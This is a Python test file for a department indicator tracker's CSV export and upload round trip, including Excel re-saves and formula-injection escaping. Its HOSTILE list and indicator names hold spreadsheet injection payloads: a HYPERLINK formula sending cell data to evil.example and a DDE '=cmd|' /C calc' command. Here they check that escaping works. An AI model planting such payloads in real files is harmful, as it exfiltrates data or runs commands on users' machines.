"""The round trip: a CSV export filtered to one department and period, edited, re-saved and uploaded."""

from __future__ import annotations

import csv
import io
from typing import TYPE_CHECKING

import httpx

from sheets import indicator, report_history, upload, value_history

if TYPE_CHECKING:
    from conftest import MakeClient

PERIOD = "2025-Q3"
FILTER = {"format": "csv", "department": "children", "from": PERIOD, "to": PERIOD}


async def post_value(
    client: httpx.AsyncClient, indicator_id: int, period: str, value: float, note: str | None
) -> None:
    response = await client.post(
        f"/api/v1/indicators/{indicator_id}/values", json={"period": period, "value": value, "note": note}
    )
    assert response.status_code == 201, response.text


async def post_report(
    client: httpx.AsyncClient, guideline: str, department: str, status: str, summary: str
) -> None:
    body = {"period": PERIOD, "status": status, "summary": summary, "department": department}
    response = await client.post(f"/api/v1/guidelines/{guideline}/reports", json=body)
    assert response.status_code == 201, response.text


def excel_resave(exported: bytes, edit: dict[tuple[int, str], str]) -> bytes:
    """The export opened in Excel, cells edited, saved as CSV (コンマ区切り): cp932, CRLF, no BOM."""
    rows = list(csv.reader(io.StringIO(exported.decode("utf-8-sig"), newline="")))
    header = rows[0]
    for (row, key), text in edit.items():
        rows[row][header.index(key)] = text
    buffer = io.StringIO()
    csv.writer(buffer, lineterminator="\r\n").writerows(rows)
    return buffer.getvalue().encode("cp932")


async def test_values_export_round_trip(make_client: MakeClient, admin: httpx.AsyncClient) -> None:
    clerk = await make_client("department", department="children")
    first = await indicator(admin, "children", "1.1.1", name="保育定員")
    second = await indicator(admin, "children", "1.3.1", name="相談件数")
    third = await indicator(admin, "children", "2.2.1", name="待機児童数", baseline=100, target=0)
    theirs = await indicator(admin, "health-center", "1.1.1")
    await post_value(clerk, first, PERIOD, 1320, "-5人の増加 (前年同期比)")  # neutralised by the export
    await post_value(clerk, second, PERIOD, 7.5, None)
    await post_value(clerk, third, PERIOD, -3, "=再集計中")
    await post_value(clerk, first, "2025-Q2", 1300, None)  # another period: not in the file
    await post_value(admin, theirs, PERIOD, 1, None)  # another department: not in the file

    exported = (await clerk.get("/api/v1/export/values", params=FILTER)).content
    text = exported.decode("utf-8-sig")
    assert "'-5人の増加 (前年同期比)" in text
    assert "'=再集計中" in text
    assert ",-3.0," in text  # numbers stay plain
    assert len(text.strip().splitlines()) == 4

    unchanged = await upload(clerk, exported, "wlbtrack-values.csv", "text/csv")
    assert unchanged.status_code == 201, unchanged.text
    assert unchanged.json()["values"] == {"written": 0, "unchanged": 3, "skipped": 0}
    resaved = await upload(clerk, excel_resave(exported, {}), "wlbtrack-values.csv", "text/csv")
    assert resaved.json()["values"] == {"written": 0, "unchanged": 3, "skipped": 0}
    for identifier in (first, second, third):
        assert [v["revision"] for v in await value_history(clerk, identifier) if v["period"] == PERIOD] == [1]

    edited = excel_resave(exported, {(1, "value"): "1,350", (2, "note"): "暫定値（速報）"})
    response = await upload(clerk, edited, "wlbtrack-values.csv", "text/csv")
    assert response.status_code == 201, response.text
    assert response.json()["values"] == {"written": 2, "unchanged": 1, "skipped": 0}
    assert [
        (item["indicator"], item["value"], item["note"], item["revision"])
        for item in response.json()["items"]
    ] == [
        (first, 1350, "-5人の増加 (前年同期比)", 2),
        (second, 7.5, "暫定値（速報）", 2),
    ]
    assert [v["value"] for v in await value_history(clerk, first) if v["period"] == PERIOD] == [1320, 1350]
    assert [v["note"] for v in await value_history(clerk, second)] == [None, "暫定値（速報）"]
    assert [(v["value"], v["note"]) for v in await value_history(clerk, third)] == [(-3, "=再集計中")]
    assert len(await value_history(admin, theirs)) == 1


async def test_reports_export_round_trip(make_client: MakeClient, admin: httpx.AsyncClient) -> None:
    clerk = await make_client("department", department="children")
    await post_report(clerk, "1.1.1", "children", "on_track", "=増加傾向が続いています")
    await post_report(clerk, "1.3.1", "children", "at_risk", "用地の確保が課題です。\n次期に再検討します。")
    await post_report(admin, "1.1.1", "health-center", "on_track", "他部の報告")

    exported = (await clerk.get("/api/v1/export/reports", params=FILTER)).content
    assert "'=増加傾向が続いています" in exported.decode("utf-8-sig")
    unchanged = await upload(clerk, excel_resave(exported, {}), "wlbtrack-reports.csv", "text/csv")
    assert unchanged.status_code == 201, unchanged.text
    assert unchanged.json()["reports"] == {"written": 0, "unchanged": 2, "skipped": 0}

    edited = excel_resave(exported, {(2, "status"): "遅延"})
    response = await upload(clerk, edited, "wlbtrack-reports.csv", "text/csv")
    assert response.status_code == 201, response.text
    assert response.json()["reports"] == {"written": 1, "unchanged": 1, "skipped": 0}
    assert [(r["status"], r["revision"]) for r in await report_history(clerk, "1.3.1", PERIOD)] == [
        ("at_risk", 1),
        ("delayed", 2),
    ]
    assert [
        r["summary"] for r in await report_history(clerk, "1.1.1", PERIOD) if r["department"] == "children"
    ] == ["=増加傾向が続いています"]


HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+1",
    "@SUM(1+1)",
    "-x",
    "'quoted",
    "''twice",
    "'=already escaped by hand",
    "\tindented",
    "plain ' inside",
]


def cells_of(exported: bytes, key: str) -> list[str]:
    """One column of a CSV export, as the file holds it."""
    return [row[key] for row in csv.DictReader(io.StringIO(exported.decode("utf-8-sig"), newline=""))]


async def test_formula_escaping_round_trip(make_client: MakeClient, admin: httpx.AsyncClient) -> None:
    """Text cells are escaped in CSV, never in JSON, numbers stay plain, and an upload restores the text."""
    clerk = await make_client("department", department="children")
    ids = []
    for number, note in enumerate(HOSTILE):
        body = {
            "name": f"=cmd|' /C calc'!A{number}",
            "unit": "+1+1",
            "baseline": 0,
            "target": -10,
            "department": "children",
        }
        response = await admin.post("/api/v1/guidelines/1.1.1/indicators", json=body)
        assert response.status_code == 201, response.text
        ids.append(response.json()["id"])
        await post_value(clerk, ids[-1], PERIOD, -5, note)
    await post_report(clerk, "1.1.1", "children", "on_track", HOSTILE[0])
    await post_report(clerk, "1.3.1", "children", "on_track", "'quoted")

    values = (await clerk.get("/api/v1/export/values", params=FILTER)).content
    assert cells_of(values, "note") == ["'" + note if note[0] in "=+-@\t'" else note for note in HOSTILE]
    assert set(cells_of(values, "indicator_name")) == {f"'=cmd|' /C calc'!A{n}" for n in range(len(HOSTILE))}
    assert set(cells_of(values, "unit")) == {"'+1+1"}
    assert set(cells_of(values, "value")) == {"-5.0"}  # numbers are never escaped
    assert set(cells_of(values, "target")) == {"-10.0"}
    reports = (await clerk.get("/api/v1/export/reports", params=FILTER)).content
    assert cells_of(reports, "summary") == ["'" + HOSTILE[0], "''quoted"]
    as_json = (await clerk.get("/api/v1/export/values", params={**FILTER, "format": "json"})).json()["items"]
    assert [row["note"] for row in as_json] == HOSTILE
    assert {row["unit"] for row in as_json} == {"+1+1"}

    for exported, name, kind, count in (
        (values, "wlbtrack-values.csv", "values", len(HOSTILE)),
        (reports, "wlbtrack-reports.csv", "reports", 2),
        (excel_resave(values, {}), "wlbtrack-values.csv", "values", len(HOSTILE)),
    ):
        response = await upload(clerk, exported, name, "text/csv")
        assert response.status_code == 201, response.text
        assert response.json()[kind] == {"written": 0, "unchanged": count, "skipped": 0}
    assert [[v["note"] for v in await value_history(clerk, i)] for i in ids] == [[note] for note in HOSTILE]
    summaries = [r["summary"] for g in ("1.1.1", "1.3.1") for r in await report_history(clerk, g, PERIOD)]
    assert summaries == [HOSTILE[0], "'quoted"]

    edited = excel_resave(values, {(1, "value"): "-6"})
    response = await upload(clerk, edited, "wlbtrack-values.csv", "text/csv")
    assert response.json()["values"] == {"written": 1, "unchanged": len(HOSTILE) - 1, "skipped": 0}
    assert [(v["value"], v["note"]) for v in await value_history(clerk, ids[0])] == [
        (-5, HOSTILE[0]),
        (-6, HOSTILE[0]),
    ]
